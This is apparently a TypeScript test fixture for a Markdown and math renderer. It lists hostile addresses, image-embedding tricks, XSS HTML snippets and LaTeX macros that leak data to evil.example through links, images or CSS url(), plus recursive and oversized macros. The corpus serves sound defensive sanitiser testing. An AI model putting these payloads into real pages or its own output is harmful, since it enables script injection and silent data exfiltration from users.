/** What a model may write to make a page load, run or leave something: the tests of Markdown and of the whole page share it. */

/** Addresses that are never linked. */
export const hostileAddresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#x09;script:alert(1)',
  'java&#10;script:alert(1)',
  '&#1;javascript:alert(1)',
  '%20javascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD4=',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'filesystem:https://evil.example/x',
  'view-source:https://evil.example',
  'about:blank',
  '//evil.example/x',
  '/settings',
  '#/s/other-session',
  'https://bank.example@evil.example/',
  'https:\\\\evil.example',
];

/** Ways to write a picture of an address. */
export const hostilePictures: readonly (readonly [how: string, write: (url: string) => string])[] = [
  ['inline', (url) => `![a](${url})`],
  ['by reference', (url) => `![a][r]\n\n[r]: ${url}`],
  ['by a shortened reference', (url) => `![r]\n\n[r]: ${url}`],
  ['by reference from another block', (url) => `![a][r]\n\ntext\n\n[r]: ${url}`],
  ['within a link', (url) => `[![a](${url})](https://a.example)`],
  ['in a table', (url) => `| a |\n| - |\n| ![a](${url}) |`],
  ['in a list', (url) => `- ![a](${url})`],
  ['in a footnote', (url) => `a[^1]\n\n[^1]: ![a](${url})`],
  ['as HTML', (url) => `<img src="${url}">`],
  ['as HTML with srcset', (url) => `<img srcset="${url} 2x">`],
  ['as SVG', (url) => `<svg><image href="${url}"/></svg>`],
  ['by a style', (url) => `<p style="background:url(${url})">a</p>\n\n<style>@import "${url}"</style>`],
];

/** HTML that stays text. */
export const hostileHTML: readonly string[] = [
  '<script>alert(1)</script>',
  '<b onclick="alert(1)">b</b>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">a</a>',
  'text <img src=x onerror=alert(1)> text',
  '<svg/onload=alert(1)>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name=a></form>',
];

/** Formulas that a typesetter may turn into links, pictures, HTML or a long computation. */
export const hostileFormulas: readonly string[] = [
  '\\href{javascript:alert(1)}{x}',
  '\\href{https://evil.example/p?q=secret}{x}',
  '\\url{https://evil.example/p?q=secret}',
  '\\includegraphics{https://evil.example/p.png?q=secret}',
  '\\includegraphics[alt=a]{data:image/svg+xml,<svg onload=alert(1)>}',
  '\\class{evil}{x}',
  '\\id{studio}{x}',
  '\\style{background:url(https://evil.example/p.png)}{x}',
  '\\data{evil=1}{x}',
  '\\label{studio}\\tag{1} x \\ref{studio}',
  '\\text{<img src=x onerror=alert(1)>}',
  '\\text{</annotation><script>alert(1)</script>}',
  '\\color{url(https://evil.example/p.png)} x',
  '\\textcolor{red;background:url(https://evil.example/p.png)}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\rule{99999em}{99999em}',
];
